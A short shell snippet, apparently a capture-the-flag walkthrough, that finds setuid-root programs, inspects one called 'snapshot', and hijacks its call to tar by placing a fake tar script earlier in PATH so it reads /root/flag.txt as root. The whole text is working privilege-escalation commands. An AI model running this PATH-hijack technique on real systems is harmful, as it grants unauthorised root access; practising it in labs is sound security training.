#-- which programs run as root whoever starts them
find / -xdev -type f -perm -4000 2> /dev/null
#-- what does the unusual one run
strings /usr/local/bin/snapshot | grep -i -e tar -e exec -e uid
#-- a tar of our own, earlier in the search path
mkdir -p ~/bin
printf '#!/bin/sh\ncat /root/flag.txt\n' > ~/bin/tar
chmod +x ~/bin/tar
PATH=~/bin:$PATH snapshot
